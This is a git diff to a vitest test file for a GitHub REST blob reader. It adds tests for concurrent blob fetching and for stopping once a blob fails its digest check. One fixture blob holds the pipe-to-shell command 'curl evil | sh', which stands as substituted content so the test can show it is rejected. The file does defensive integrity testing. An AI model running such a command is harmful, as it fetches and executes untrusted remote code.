@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { gitBlobId, RestGitSource, type GitHubApi } from '../../src/adapters/github-api.ts';
+import { BLOB_READS_IN_FLIGHT, gitBlobId, RestGitSource, type GitHubApi } from '../../src/adapters/github-api.ts';
 import { readActionSettings } from '../../src/action/settings.ts';
 import { TrustError, UsageError } from '../../src/errors.ts';
 
@@ -8,6 +8,7 @@ function api(blobs: Record<string, Buffer>, truncated = false): GitHubApi {
   const unused = () => Promise.reject(new Error('not used'));
   return {
     tryGetRef: async () => ({ type: 'commit', sha: 'c'.repeat(40) }),
+    listMatchingRefs: unused,
     getTag: unused,
     getCommitTree: async () => 't'.repeat(40),
     getTree: async () => ({
@@ -52,6 +53,40 @@ describe('RestGitSource', () => {
     const oid = gitBlobId(Buffer.from('reviewed\n'), 40);
     const source = new RestGitSource(api({ [oid]: Buffer.from('curl evil | sh\n') }));
     expect(await codeOf(source.readBlobs([oid]))).toBe('DIGEST_MISMATCH');
+  });
+
+  it('reads many blobs with several requests in flight, not one round trip after another', async () => {
+    const contents = Array.from({ length: 30 }, (_, i) => Buffer.from(`file ${i}\n`));
+    const blobs = Object.fromEntries(contents.map((c) => [gitBlobId(c, 40), c]));
+    let inFlight = 0;
+    let most = 0;
+    const slow = api(blobs);
+    const source = new RestGitSource({
+      ...slow,
+      getBlob: async (sha) => {
+        most = Math.max(most, ++inFlight);
+        await new Promise((resolve) => setTimeout(resolve, 5));
+        inFlight--;
+        return slow.getBlob(sha);
+      },
+    });
+    const read = await source.readBlobs(Object.keys(blobs));
+    expect([...read.keys()].sort()).toEqual(Object.keys(blobs).sort());
+    expect(most).toBe(BLOB_READS_IN_FLIGHT);
+  });
+
+  it('stops asking once one blob is refused, and reports that refusal', async () => {
+    const good = Array.from({ length: 20 }, (_, i) => Buffer.from(`ok ${i}\n`));
+    const blobs: Record<string, Buffer> = Object.fromEntries(good.map((c) => [gitBlobId(c, 40), c]));
+    const badOid = gitBlobId(Buffer.from('reviewed\n'), 40);
+    blobs[badOid] = Buffer.from('substituted\n');
+    let asked = 0;
+    const base = api(blobs);
+    const source = new RestGitSource({ ...base, getBlob: async (sha) => (asked++, base.getBlob(sha)) });
+    expect(await codeOf(source.readBlobs([badOid, ...Object.keys(blobs).filter((o) => o !== badOid)]))).toBe(
+      'DIGEST_MISMATCH',
+    );
+    expect(asked).toBeLessThan(21);
   });
 
   it('refuses a truncated tree listing, which could leave files out of the digest', async () => {
